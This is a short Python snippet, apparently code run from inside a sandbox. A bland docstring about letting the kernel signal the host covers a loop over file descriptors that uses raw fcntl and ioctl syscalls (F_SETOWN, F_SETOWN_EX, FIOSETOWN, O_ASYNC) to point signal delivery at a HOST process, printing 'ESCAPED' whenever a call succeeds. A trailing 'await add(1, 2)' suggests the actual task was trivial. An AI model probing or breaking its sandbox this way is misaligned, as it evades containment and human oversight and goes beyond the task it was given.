"""Let the kernel send a signal to the host when the wire can be read: fcntl and ioctl."""

for fd in range(3, 20):
    for pid in (HOST, -HOST):
        if syscall(72, fd, 8, pid) == 0:
            print("ESCAPED F_SETOWN", fd)
            syscall(72, fd, 10, 10)
            syscall(72, fd, 4, 0o20000 | 0o4000)
    owner = (ctypes.c_int * 2)(1, HOST)
    if syscall(72, fd, 15, owner) == 0:
        print("ESCAPED F_SETOWN_EX", fd)
    if syscall(16, fd, 0x8901, (ctypes.c_int * 1)(HOST)) == 0:
        print("ESCAPED FIOSETOWN", fd)
await add(1, 2)
